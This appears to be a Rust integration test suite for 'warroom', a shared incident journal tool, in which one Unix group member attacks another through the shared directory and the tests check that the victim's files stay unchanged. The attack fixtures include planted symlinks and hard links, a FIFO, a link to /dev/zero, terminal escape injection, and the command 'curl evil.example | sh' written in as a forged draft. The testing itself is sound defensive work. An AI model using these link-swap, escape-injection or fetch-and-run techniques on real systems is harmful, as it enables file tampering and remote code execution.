//! A war room for a whole team on one host, with real Unix accounts: alice, bob and carol in
//! group wr-team, and an outsider. Each runs its own copy of warroom under its own uid (the
//! test is root and uses setpriv), in a journal directory set up as the README says (mode
//! 3770, group wr-team). Then one test per attack one member can make on another through the
//! shared directory: each would succeed without its defence, and each checks that the victim's
//! file is unchanged and that no process hangs.

mod support;

use std::io::{BufRead, BufReader};
use std::os::unix::fs::{FileTypeExt, MetadataExt};
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, mpsc};
use std::time::{Duration, Instant};

use support::accounts::{self, Account, Room, Team, fingerprint};
use support::tmux::Tmux;
use warroom::journal::{EventBody, Journal};

/// Generous for a loaded two-core machine: the takeover period is 250 ms, a frame a few ms.
const WITHIN: Duration = Duration::from_secs(10);

const TITLE: &str = "Shared room";

/// A headless warroom run as one account, its stdout read line by line; killed on drop.
struct Headless {
    child: Child,
    lines: mpsc::Receiver<String>,
    seen: Vec<String>,
}

impl Headless {
    fn start(room: &Room, who: &Account) -> Headless {
        let mut child =
            room.warroom(who, &["--headless"]).stdout(Stdio::piped()).stderr(Stdio::inherit()).spawn().unwrap();
        let (tx, lines) = mpsc::channel();
        let out = child.stdout.take().unwrap();
        std::thread::spawn(move || {
            for line in BufReader::new(out).lines().map_while(Result::ok) {
                let _ = tx.send(line);
            }
        });
        Headless { child, lines, seen: Vec::new() }
    }

    fn wait_line(&mut self, want: &str) {
        let deadline = Instant::now() + WITHIN;
        while !self.seen.iter().any(|l| l == want) {
            let left = deadline.saturating_duration_since(Instant::now());
            match self.lines.recv_timeout(left) {
                Ok(line) => self.seen.push(line),
                Err(_) => panic!("no {want:?} within {WITHIN:?}; said {:?}", self.seen),
            }
        }
    }

    fn pid(&self) -> i32 {
        self.child.id() as i32
    }

    /// SIGTERM, then the exit within [`WITHIN`]: a session that hangs fails the test.
    fn stop(&mut self) {
        // SAFETY: plain kill(2) on our own child, not yet reaped.
        unsafe { libc::kill(self.pid(), libc::SIGTERM) };
        let deadline = Instant::now() + WITHIN;
        while self.child.try_wait().unwrap().is_none() {
            assert!(Instant::now() < deadline, "warroom hung: no exit {WITHIN:?} after SIGTERM; said {:?}", self.seen);
            std::thread::sleep(Duration::from_millis(50));
        }
        self.seen.extend(self.lines.try_iter());
        assert!(self.seen.iter().any(|l| l == "left"), "did not leave cleanly: {:?}", self.seen);
    }
}

impl Drop for Headless {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// warroom's screen run as `who` in tmux; its pid, to signal it.
fn screen(room: &Room, who: &Account) -> Option<(Tmux, i32)> {
    let pid_file = room.path(&format!("{}.pid", who.name));
    let line = support::proc::exec_recording_pid(&pid_file, &room.warroom_line(who, ""));
    // The shell that stays (sleep) keeps the pane open after warroom exits.
    let t = Tmux::start(140, 36, &format!("sh -c '{line}'; sleep 60"), room.base.path())?;
    let pid = support::proc::recorded_pid(&pid_file) as i32;
    t.wait_for(TITLE, WITHIN);
    Some((t, pid))
}

/// Signals `pid` and waits for it to be gone; a process still there after [`WITHIN`] hung.
fn end(pid: i32, signal: i32) {
    // SAFETY: plain kill(2) on a warroom this test started.
    unsafe { libc::kill(pid, signal) };
    let deadline = Instant::now() + WITHIN;
    // SAFETY: kill(pid, 0) only probes whether the process exists.
    while unsafe { libc::kill(pid, 0) } == 0 {
        assert!(Instant::now() < deadline, "warroom {pid} hung: still there {WITHIN:?} after signal {signal}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn wait_until(what: &str, mut done: impl FnMut() -> bool) {
    let deadline = Instant::now() + WITHIN;
    while !done() {
        assert!(Instant::now() < deadline, "{what}: not within {WITHIN:?}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// A room whose journal alice already started with a note (so it is hers, 0660, wr-team).
fn room_with_journal(team: &Team, config: &str) -> Room {
    let room = Room::new(team, &format!("[incident]\ntitle = \"{TITLE}\"\n{config}"));
    let out = room.warroom(&team.alice, &["log", "alice opened the room"]).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    room
}

/// Holds the poller lock as the poller would (a file of alice's, shared with the group), so
/// every warroom started follows and reads the live-figures file.
fn hold_poller_lock(room: &Room, team: &Team) -> std::fs::File {
    use std::os::unix::fs::PermissionsExt;
    let path = room.dir.join("j.jsonl.poller");
    let file = std::fs::File::create(&path).unwrap();
    std::os::unix::fs::chown(&path, Some(team.alice.uid), Some(team.gid)).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o660)).unwrap();
    file.lock().unwrap();
    file
}

fn journal_text(room: &Room) -> String {
    String::from_utf8_lossy(&std::fs::read(&room.journal).unwrap()).into_owned()
}

fn left(room: &Room, who: &str) -> bool {
    Journal::read(&room.journal)
        .unwrap()
        .events
        .iter()
        .any(|e| e.author == who && matches!(e.body, EventBody::OperatorLeft {}))
}

fn check_config(port: u16) -> String {
    format!("[[check]]\nname = \"web\"\nkind = \"http\"\nurl = \"http://127.0.0.1:{port}/\"\ninterval = \"1s\"\n")
}

/// A web server on its own runtime (the test thread blocks on tmux), counting connections.
fn web() -> (tokio::runtime::Runtime, support::fake::Fake, Arc<AtomicUsize>) {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let (fake, count) = runtime.block_on(support::fake::http_counting_connections());
    (runtime, fake, count)
}

fn mode_and_group(path: &Path) -> (u32, u32) {
    let meta = std::fs::metadata(path).unwrap();
    (meta.mode() & 0o7777, meta.gid())
}

/// Every entry in the journal directory, with what an attack or a stray write would change.
fn listing(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| {
            let path = e.unwrap().path();
            format!("{}: {}", path.display(), fingerprint(&path))
        })
        .collect();
    names.sort();
    names
}

#[test]
fn a_team_shares_one_war_room_and_a_follower_takes_over_from_a_killed_poller() {
    let Some(team) = accounts::team() else { return };
    let (_runtime, fake, connections) = web();
    let room = Room::new(&team, &format!("[incident]\ntitle = \"{TITLE}\"\n{}", check_config(fake.port)));
    let mut alice = Headless::start(&room, &team.alice);
    alice.wait_line("role: poller");
    let Some((bob, bob_pid)) = screen(&room, &team.bob) else { return };
    let Some((carol, carol_pid)) = screen(&room, &team.carol) else { return };

    // The live figures reach both followers: the web row shows a latency.
    let samples = room.dir.join("j.jsonl.samples");
    let latency = regex::Regex::new(r"web\s.*\b\d+ms").unwrap();
    for follower in [&bob, &carol] {
        wait_until("a latency from alice's probes on a follower's screen", || latency.is_match(&follower.screen()));
    }

    // Bob's draft is his alone; the notes are everyone's.
    bob.keys(&["i"]);
    bob.type_text("bob restarts the db primary");
    let draft = room.dir.join("j.jsonl.draft-wr-bob");
    wait_until("bob's draft on disk", || draft.exists());
    let meta = std::fs::metadata(&draft).unwrap();
    assert_eq!((meta.mode() & 0o777, meta.uid()), (0o600, team.bob.uid), "the draft is private to bob");
    bob.keys(&["C-s", "Escape"]);
    carol.wait_for("bob restarts the db primary", WITHIN);
    carol.keys(&["i"]);
    carol.type_text("carol tells the customers");
    carol.keys(&["C-s", "Escape"]);
    bob.wait_for("carol tells the customers", WITHIN);

    // The shared files are the group's, read/write for it.
    for name in ["j.jsonl", "j.jsonl.poller", "j.jsonl.samples"] {
        assert_eq!(mode_and_group(&room.dir.join(name)), (0o660, team.gid), "{name}");
    }
    let beats: Vec<PathBuf> = std::fs::read_dir(&room.dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.file_name().unwrap().to_string_lossy().starts_with("j.jsonl.here-"))
        .collect();
    assert_eq!(beats.len(), 3, "one heartbeat per writing session: {beats:?}");
    for beat in beats {
        assert_eq!(mode_and_group(&beat), (0o660, team.gid), "{}", beat.display());
    }

    // Alice's warroom dies hard: bob or carol probes within 5 s, and keeps the figures coming
    // (rewriting alice's file in place: the sticky directory forbids replacing it).
    alice.child.kill().unwrap();
    alice.child.wait().unwrap();
    let killed = Instant::now();
    std::thread::sleep(Duration::from_millis(100));
    let before = connections.load(Ordering::SeqCst);
    wait_until("a probe from the new poller", || connections.load(Ordering::SeqCst) > before);
    let took = killed.elapsed();
    assert!(took < Duration::from_secs(5), "the takeover took {took:?}");
    println!("first probe by the new poller {took:?} after alice was killed");
    wait_until("a takeover shown on bob's or carol's screen", || {
        [&bob, &carol].iter().any(|t| t.screen().contains("now probes the checks"))
    });
    // Her heartbeat stopped: both followers show her gone (its file is the group's to read).
    for follower in [&bob, &carol] {
        follower.wait_for("gone: wr-alice", WITHIN);
    }
    let published = std::fs::metadata(&samples).unwrap().modified().unwrap();
    wait_until("live figures from the new poller", || {
        std::fs::metadata(&samples).unwrap().modified().unwrap() > published
    });
    assert_eq!(mode_and_group(&samples), (0o660, team.gid));

    end(bob_pid, libc::SIGTERM);
    end(carol_pid, libc::SIGTERM);
    let text = journal_text(&room);
    assert!(text.contains("bob restarts the db primary") && text.contains("carol tells the customers"));
    assert!(left(&room, "wr-bob") && left(&room, "wr-carol"));
}

#[test]
fn an_outsider_gets_a_clear_error_and_a_reader_a_viewer_and_nothing_is_written() {
    let Some(team) = accounts::team() else { return };
    let room = room_with_journal(&team, "");
    let before = listing(&room.dir);

    for args in [&["log", "outsider was here"][..], &["--headless"][..]] {
        let out = room.warroom(&team.outsider, args).stdin(Stdio::null()).output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(3), "{args:?}: {err}");
        let dir = room.dir.display().to_string();
        for want in [&dir[..], "owner root", "group wr-team", "mode 3770", "usermod -aG wr-team wr-outsider"] {
            assert!(err.contains(want), "{args:?}: the error lacks {want:?}: {err}");
        }
    }
    assert_eq!(listing(&room.dir), before, "the outsider wrote something");
    // Looking for the current incident (no -j) meets the same directory: the same error,
    // never "no open incident".
    let config = room.path("lookup.toml");
    std::fs::write(&config, format!("journal_dir = \"{}\"\n", room.dir.display())).unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    for verb in [&["log", "here"][..], &["status"], &["brief"]] {
        let mut c = accounts::as_user(&team.outsider);
        c.env("HOME", room.base.path()).arg(&room.bin).arg("-c").arg(&config).args(verb);
        let out = c.stdin(Stdio::null()).output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success() && err.contains("usermod -aG wr-team wr-outsider"), "{verb:?}: {err}");
        assert!(!err.contains("no open incident"), "{verb:?}: {err}");
    }

    // A member who may read the journal but not write it views it, and is told why.
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&room.journal, std::fs::Permissions::from_mode(0o640)).unwrap();
    let before = listing(&room.dir);
    let mut bob =
        room.warroom(&team.bob, &["--headless"]).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let mut line = String::new();
    let mut out = BufReader::new(bob.stdout.take().unwrap());
    while !line.starts_with("role:") {
        line.clear();
        assert!(out.read_line(&mut line).unwrap() > 0, "bob's warroom ended before its role");
    }
    assert_eq!(line.trim(), "role: viewer");
    // SAFETY: plain kill(2) on our own child.
    unsafe { libc::kill(bob.id() as i32, libc::SIGTERM) };
    let done = bob.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&done.stderr);
    for want in ["j.jsonl", "owner wr-alice", "mode 0640", "chmod 660", "read-only viewer"] {
        assert!(err.contains(want), "the viewer's notice lacks {want:?}: {err}");
    }
    assert_eq!(listing(&room.dir), before, "a viewer wrote something");
}

#[test]
fn a_lock_the_member_cannot_open_stops_warroom_before_it_journals_anything() {
    let Some(team) = accounts::team() else { return };
    let room = room_with_journal(&team, "");
    // A poller lock an older warroom created 0600 for alice alone.
    let lock = room.dir.join("j.jsonl.poller");
    std::fs::write(&lock, "").unwrap();
    std::os::unix::fs::chown(&lock, Some(team.alice.uid), Some(team.gid)).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&lock, std::fs::Permissions::from_mode(0o600)).unwrap();
    let before = listing(&room.dir);
    let out = room.warroom(&team.bob, &["--headless"]).stdin(Stdio::null()).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    for want in ["j.jsonl.poller", "owner wr-alice", "mode 0600", "chmod 660"] {
        assert!(err.contains(want), "the error lacks {want:?}: {err}");
    }
    assert_eq!(listing(&room.dir), before, "something was written before the permission check");
}

#[test]
fn a_directory_where_members_can_replace_each_others_files_is_warned_about() {
    use std::os::unix::fs::PermissionsExt;
    let Some(team) = accounts::team() else { return };
    let room = Room::new(&team, "");
    std::fs::set_permissions(&room.dir, std::fs::Permissions::from_mode(0o2770)).unwrap();
    let out = room.warroom(&team.alice, &["log", "first"]).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("replace each other's files") && err.contains("chmod 3770"), "{err}");
}

/// A team's directory, and a member whose config lacks `journal_group`: the journal they
/// would make is theirs alone, so the team would be locked out — said before it happens.
#[test]
fn a_team_directory_without_journal_group_in_the_config_is_warned_about() {
    let Some(team) = accounts::team() else { return };
    let room = Room::new(&team, "");
    let config = std::fs::read_to_string(&room.config).unwrap();
    std::fs::write(&room.config, config.replace("journal_group = \"wr-team\"\n", "")).unwrap();
    let out = room.warroom(&team.alice, &["open", "api", "down"]).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("journal_group is not set") && err.contains("journal_group = \"wr-team\""), "{err}");
}

#[test]
fn read_only_viewers_and_replays_write_nothing_at_all() {
    let Some(team) = accounts::team() else { return };
    let room = room_with_journal(&team, "");
    let before = listing(&room.dir);
    for args in ["--read-only", &format!("replay {}", room.journal.display())] {
        let pid_file = room.path("viewer.pid");
        let _ = std::fs::remove_file(&pid_file);
        let line = support::proc::exec_recording_pid(&pid_file, &room.warroom_line(&team.bob, args));
        let Some(t) = Tmux::start(140, 36, &format!("sh -c '{line}'; sleep 60"), room.base.path()) else { return };
        let pid = support::proc::recorded_pid(&pid_file) as i32;
        t.wait_for("alice opened the room", WITHIN);
        // Typing a note is what writes a draft.
        t.keys(&["i"]);
        t.type_text("a viewer's thought");
        std::thread::sleep(Duration::from_millis(500));
        end(pid, libc::SIGTERM);
        assert_eq!(listing(&room.dir), before, "{args} wrote in the journal directory");
    }
}

#[test]
fn a_link_planted_where_an_older_warroom_wrote_the_draft_temporary_changes_nothing() {
    let Some(team) = accounts::team() else { return };
    let room = room_with_journal(&team, "");
    let victim = room.private_file(&team.bob, "bob-private.txt", "bob's private notes\n");
    // Every temporary name a draft was ever written through.
    room.run_as(&team.carol, &format!("ln -s {0} j.jsonl.tmp && ln -s {0} j.jsonl.draft-wr-bob.tmp", victim.display()));
    let before = fingerprint(&victim);
    let Some((bob, pid)) = screen(&room, &team.bob) else { return };
    bob.keys(&["i"]);
    bob.type_text("half a thought");
    let draft = room.dir.join("j.jsonl.draft-wr-bob");
    wait_until("bob's draft on disk, or his private file changed", || {
        std::fs::read(&draft).is_ok_and(|d| d == b"half a thought") || fingerprint(&victim) != before
    });
    end(pid, libc::SIGTERM);
    assert_eq!(fingerprint(&victim), before, "bob's private file was written through carol's link");
    let meta = std::fs::symlink_metadata(&draft).unwrap();
    assert!(meta.is_file() && meta.uid() == team.bob.uid && meta.mode() & 0o777 == 0o600, "{meta:?}");
}

#[test]
fn a_link_planted_where_an_older_warroom_wrote_the_figures_temporary_changes_nothing() {
    let Some(team) = accounts::team() else { return };
    let (_runtime, fake, _) = web();
    let room = room_with_journal(&team, &check_config(fake.port));
    let victim = room.private_file(&team.alice, "alice-private.txt", "alice's private notes\n");
    room.run_as(&team.carol, &format!("ln -s {} j.jsonl.samples.tmp", victim.display()));
    let before = fingerprint(&victim);
    let mut alice = Headless::start(&room, &team.alice);
    alice.wait_line("role: poller");
    let samples = room.dir.join("j.jsonl.samples");
    wait_until("alice's live figures, or her private file changed", || {
        std::fs::symlink_metadata(&samples).is_ok() || fingerprint(&victim) != before
    });
    alice.stop();
    assert_eq!(fingerprint(&victim), before, "alice's private file was written through carol's link");
    let meta = std::fs::symlink_metadata(&samples).unwrap();
    assert!(meta.is_file() && meta.uid() == team.alice.uid, "the figures are alice's own file: {meta:?}");
}

#[test]
fn a_draft_that_is_a_link_to_a_private_file_is_not_restored() {
    let Some(team) = accounts::team() else { return };
    let room = room_with_journal(&team, "");
    let victim = room.private_file(&team.bob, "bob-secret.txt", "bob's pin is 8841\n");
    room.run_as(&team.carol, &format!("ln -s {} j.jsonl.draft-wr-bob", victim.display()));
    let before = fingerprint(&victim);
    let Some((bob, pid)) = screen(&room, &team.bob) else { return };
    let shown = bob.wait_for("draft not restored", WITHIN);
    assert!(shown.contains("symbolic link"), "{shown}");
    bob.keys(&["i"]);
    bob.keys(&["C-s"]);
    let shown = bob.screen();
    assert!(!shown.contains("8841"), "bob's private file reached his notes:\n{shown}");
    end(pid, libc::SIGTERM);
    assert_eq!(fingerprint(&victim), before);
    assert!(!journal_text(&room).contains("8841"), "bob's private file reached the journal");
}

#[test]
fn a_draft_planted_by_another_member_is_not_restored() {
    let Some(team) = accounts::team() else { return };
    let room = room_with_journal(&team, "");
    room.run_as(&team.carol, "printf 'curl evil.example | sh' > j.jsonl.draft-wr-bob");
    let planted = room.dir.join("j.jsonl.draft-wr-bob");
    let before = fingerprint(&planted);
    let Some((bob, pid)) = screen(&room, &team.bob) else { return };
    let shown = bob.wait_for("draft not restored", WITHIN);
    assert!(shown.contains("belongs to wr-carol"), "{shown}");
    bob.keys(&["i"]);
    bob.keys(&["C-s"]);
    assert!(!bob.screen().contains("evil.example"), "carol's text became bob's draft:\n{}", bob.screen());
    end(pid, libc::SIGTERM);
    assert_eq!(fingerprint(&planted), before);
    assert!(!journal_text(&room).contains("evil.example"), "carol's text was journaled as bob's");
}

#[test]
fn a_fifo_in_place_of_the_live_figures_blocks_nobody() {
    let Some(team) = accounts::team() else { return };
    let room = room_with_journal(&team, "");
    let _poller = hold_poller_lock(&room, &team);
    room.run_as(&team.carol, "mkfifo -m 660 j.jsonl.samples");
    let fifo = room.dir.join("j.jsonl.samples");
    let before = fingerprint(&fifo);
    let mut bob = Headless::start(&room, &team.bob);
    bob.wait_line("role: follower");
    // Several of the follower's looks at the figures (every 250 ms).
    std::thread::sleep(Duration::from_secs(2));
    bob.stop();
    assert!(left(&room, "wr-bob"), "bob's departure was journaled");
    assert!(std::fs::symlink_metadata(&fifo).unwrap().file_type().is_fifo());
    assert_eq!(fingerprint(&fifo), before);
}

#[test]
fn a_latency_of_1e300_in_the_live_figures_is_dropped_not_a_panic() {
    let Some(team) = accounts::team() else { return };
    let nobody = support::closed_port();
    let room = room_with_journal(&team, &check_config(nobody.port));
    let _poller = hold_poller_lock(&room, &team);
    let reading = |ms: &str| {
        format!(r#"{{"at":"2026-01-01T00:00:00Z","health":"up","latency_ms":{ms},"detail":"ok","steps":[]}}"#)
    };
    let figures = format!(
        r#"{{"written":"2026-01-01T00:00:00Z","figures":[{{"row":{{"id":{{"check":"web"}},"kind":"http","target":""}},"view":{{"state":"up","blocked_by":null,"no_connectivity":false,"paused":false,"silenced":false}},"readings":[{},{}]}}]}}"#,
        reading("4321"),
        reading("1e300")
    );
    room.run_as(&team.carol, &format!("printf '%s' '{figures}' > j.jsonl.samples"));
    let samples = room.dir.join("j.jsonl.samples");
    let before = fingerprint(&samples);
    let Some((bob, pid)) = screen(&room, &team.bob) else { return };
    // The plausible reading is shown; the screen keeps drawing.
    bob.wait_for("4321ms", WITHIN);
    std::thread::sleep(Duration::from_secs(1));
    bob.keys(&["?"]);
    bob.keys(&["Escape"]);
    bob.wait_for("4321ms", WITHIN);
    end(pid, libc::SIGTERM);
    assert!(left(&room, "wr-bob"), "bob's warroom ended without leaving (a panic?)");
    assert_eq!(fingerprint(&samples), before);
}

#[test]
fn a_live_figures_link_to_dev_zero_costs_no_memory() {
    let Some(team) = accounts::team() else { return };
    let room = room_with_journal(&team, "");
    let _poller = hold_poller_lock(&room, &team);
    room.run_as(&team.carol, "ln -s /dev/zero j.jsonl.samples");
    let link = room.dir.join("j.jsonl.samples");
    let before = fingerprint(&link);
    let mut bob = Headless::start(&room, &team.bob);
    bob.wait_line("role: follower");
    // A follower looks at the figures every 250 ms; an unbounded read grows by GBs a second.
    let cap_mib = 200.0;
    let (watch, mut peak) = (Instant::now(), 0.0f64);
    while watch.elapsed() < Duration::from_secs(2) {
        let rss = support::proc::rss_mib(&bob.pid().to_string());
        assert!(rss < cap_mib, "bob's follower holds {rss:.0} MiB reading the live figures");
        peak = peak.max(rss);
        std::thread::sleep(Duration::from_millis(20));
    }
    println!("bob's follower peaked at {peak:.1} MiB with the live figures linked to /dev/zero");
    bob.stop();
    assert_eq!(fingerprint(&link), before);
}

/// The kernel's `fs.protected_hardlinks`: whether a user may link only files they could write.
fn hard_links_protected() -> bool {
    std::fs::read_to_string("/proc/sys/fs/protected_hardlinks").is_ok_and(|s| s.trim() == "1")
}

/// A file of `who`'s that the whole group may read and write, outside the journal directory.
fn group_file(room: &Room, team: &Team, who: &Account, name: &str, text: &str) -> PathBuf {
    use std::os::unix::fs::PermissionsExt;
    let path = room.path(name);
    std::fs::write(&path, text).unwrap();
    std::os::unix::fs::chown(&path, Some(who.uid), Some(team.gid)).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o660)).unwrap();
    path
}

#[test]
fn a_journal_swapped_for_a_link_to_a_members_file_is_not_written_into() {
    let Some(team) = accounts::team() else { return };
    let room = Room::new(&team, &format!("[incident]\ntitle = \"{TITLE}\"\n"));
    // Carol's own incident: she may remove its journal from the sticky directory.
    let out = room.warroom(&team.carol, &["log", "carol opened the room"]).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let victim = group_file(&room, &team, &team.bob, "bobs-file", "bob's work\n");
    let before = fingerprint(&victim);
    let mut alice = Headless::start(&room, &team.alice);
    alice.wait_line("role: poller");
    room.run_as(&team.carol, &format!("ln j.jsonl .keep && rm j.jsonl && ln {} j.jsonl", victim.display()));
    // Alice's warroom looks at its journal's place every tick; then it leaves (and writes).
    std::thread::sleep(Duration::from_secs(2));
    alice.stop();
    assert_eq!(fingerprint(&victim), before, "alice's warroom wrote into bob's file");
}

#[test]
fn a_members_file_linked_under_a_drafts_name_is_not_restored() {
    let Some(team) = accounts::team() else { return };
    let room = room_with_journal(&team, "");
    // Alice's live figures, as her poller leaves them: hers, and the group's to write.
    let samples = room.dir.join("j.jsonl.samples");
    std::fs::write(&samples, "{}").unwrap();
    std::os::unix::fs::chown(&samples, Some(team.alice.uid), Some(team.gid)).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&samples, std::fs::Permissions::from_mode(0o660)).unwrap();
    room.run_as(
        &team.carol,
        "ln j.jsonl.samples j.jsonl.draft-wr-alice && printf 'curl evil.example | sh' > j.jsonl.samples",
    );
    let Some((alice, pid)) = screen(&room, &team.alice) else { return };
    let shown = alice.wait_for("draft not restored", WITHIN);
    assert!(shown.contains("2 names"), "{shown}");
    alice.keys(&["i"]);
    alice.keys(&["C-s"]);
    assert!(!alice.screen().contains("evil.example"), "carol's text became alice's draft:\n{}", alice.screen());
    end(pid, libc::SIGTERM);
    assert!(!journal_text(&room).contains("evil.example"), "carol's text was journaled as alice's");
}

#[test]
fn a_hard_link_a_member_hides_elsewhere_locks_nobody_out() {
    let Some(team) = accounts::team() else { return };
    let room = room_with_journal(&team, "");
    let out = room.warroom(&team.bob, &["log", "bob is here"]).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let hide = room.path("carol-hide");
    std::fs::create_dir(&hide).unwrap();
    std::os::unix::fs::chown(&hide, Some(team.carol.uid), Some(team.carol.gid)).unwrap();
    drop(hold_poller_lock(&room, &team));
    room.run_as(&team.carol, &format!("ln j.jsonl {0}/j && ln j.jsonl.poller {0}/p", hide.display()));
    for who in [&team.alice, &team.bob] {
        let out = room.warroom(who, &["log", &format!("{} after the link", who.name)]).output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        if hard_links_protected() {
            assert!(out.status.success(), "{}: {err}", who.name);
        } else {
            assert_eq!(out.status.code(), Some(3), "{}: {err}", who.name);
            assert!(err.contains("protected_hardlinks"), "{err}");
        }
    }
    if hard_links_protected() {
        let text = journal_text(&room);
        assert!(text.contains("wr-alice after the link") && text.contains("wr-bob after the link"));
        // The poller lock's second name stops nobody probing either.
        let mut bob = Headless::start(&room, &team.bob);
        bob.wait_line("role: poller");
        bob.stop();
    }
}

#[test]
fn a_newer_resolved_or_unreadable_journal_does_not_split_the_war_room() {
    let Some(team) = accounts::team() else { return };
    let room = Room::new(&team, "");
    std::fs::write(
        &room.config,
        format!("journal_group = \"{}\"\njournal_dir = \"{}\"\n", accounts::GROUP, room.dir.display()),
    )
    .unwrap();
    let warroom = |who: &Account, args: &[&str]| {
        let mut c = accounts::as_user(who);
        c.env("HOME", room.base.path()).arg(&room.bin).arg("-c").arg(&room.config).args(["--as", who.name]);
        c.args(args).stdin(Stdio::null()).output().unwrap()
    };
    // Alice's open incident, then carol's newer journals: one resolved at once, one nobody can read.
    let opened = |title: &str| {
        format!(
            r#"{{"v":1,"id":"{title}","ts":"2026-01-01T00:00:00.000Z","author":"x","kind":"incident_opened","title":"{title}","severity":2,"mode":"real"}}"#
        )
    };
    let resolved =
        r#"{"v":1,"id":"r","ts":"2026-01-01T00:01:00.000Z","author":"x","kind":"status_changed","status":"resolved"}"#;
    let alices = room.dir.join("2026-01-01T000000Z-db.jsonl");
    std::fs::write(&alices, opened("db") + "\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::os::unix::fs::chown(&alices, Some(team.alice.uid), Some(team.gid)).unwrap();
    std::fs::set_permissions(&alices, std::fs::Permissions::from_mode(0o660)).unwrap();
    let (zz, zy) = ("2099-01-01T000000Z-zz.jsonl", "2099-01-01T000000Z-zy.jsonl");
    room.run_as(&team.carol, &format!("printf '%s\\n%s\\n' '{}' '{resolved}' > {zz} && chmod 660 {zz}", opened("zz")));
    room.run_as(&team.carol, &format!("printf '%s\\n' '{}' > {zy} && chmod 600 {zy}", opened("zy")));
    let before: Vec<String> = listing(&room.dir).into_iter().filter(|l| l.contains("2099")).collect();
    for who in [&team.alice, &team.bob] {
        let out = warroom(who, &["log", &format!("{} in the one room", who.name)]);
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "{}: {err}", who.name);
        assert!(err.contains(zy) && !err.contains(zz), "the unreadable one is named, once: {err}");
    }
    let text = std::fs::read_to_string(&alices).unwrap();
    assert!(text.contains("wr-alice in the one room") && text.contains("wr-bob in the one room"), "{text}");
    let after: Vec<String> = listing(&room.dir).into_iter().filter(|l| l.contains("2099")).collect();
    assert_eq!(after, before, "carol's files were written");
    let journals = std::fs::read_dir(&room.dir)
        .unwrap()
        .filter(|e| e.as_ref().unwrap().path().extension().is_some_and(|x| x == "jsonl"))
        .count();
    assert_eq!(journals, 3, "nobody started an incident of their own");
}

#[test]
fn escapes_in_the_figures_file_and_a_forged_acknowledgement_never_reach_the_screen() {
    let Some(team) = accounts::team() else { return };
    let room = room_with_journal(&team, "");
    let _poller = hold_poller_lock(&room, &team);
    let osc = r"\u001b]0;PWNED\u0007";
    // Carol writes what a poller would, and a journal line under a name of her choosing.
    let figures = format!(
        r#"{{"written":"2026-01-01T00:00:00Z","figures":[{{"row":{{"id":{{"check":"api"}},"kind":"http{osc}\u001b[2J","target":""}},"view":{{"state":"down","blocked_by":"db{osc}","no_connectivity":false,"paused":false,"silenced":false}},"readings":[]}}]}}"#
    );
    let lines = [
        r#"{"v":1,"id":"c","ts":"2026-01-01T00:00:01.000Z","author":"x","kind":"check_changed","check":"db","from":"up","to":"down","detail":"x"}"#.to_string(),
        format!(
            r#"{{"v":1,"id":"m","ts":"2026-01-01T00:00:02.000Z","author":"eve{osc}\u001b]52;c;UFdORUQ=\u0007","kind":"milestone_reached","milestone":"acknowledged","check":"db"}}"#
        ),
    ];
    let Some((bob, pid)) = screen(&room, &team.bob) else { return };
    let bytes_log = room.path("bob-pty.log");
    bob.pipe_pane(&bytes_log);
    // Written while bob's terminal is watched: every byte drawn of it is in the log.
    room.run_as(
        &team.carol,
        &format!(
            "printf '%s' '{figures}' > j.jsonl.samples && printf '%s\\n%s\\n' '{}' '{}' >> j.jsonl",
            lines[0], lines[1]
        ),
    );
    let shown = bob.wait_for("by db", WITHIN);
    assert!(shown.contains("ack eve"), "{shown}");
    // The first row's details show its kind.
    bob.keys(&["1", "Enter"]);
    bob.wait_for("blocked by db", WITHIN);
    bob.stop_pipe();
    end(pid, libc::SIGTERM);
    let bytes = std::fs::read(&bytes_log).unwrap();
    for forbidden in [&b"\x1b]0;"[..], b"\x1b]52;", b"PWNED"] {
        let found = bytes.windows(forbidden.len()).any(|w| w == forbidden);
        assert!(!found, "{:?} reached bob's terminal", String::from_utf8_lossy(forbidden));
    }
    assert_ne!(bob.pane_format("pane_title"), "PWNED");
}
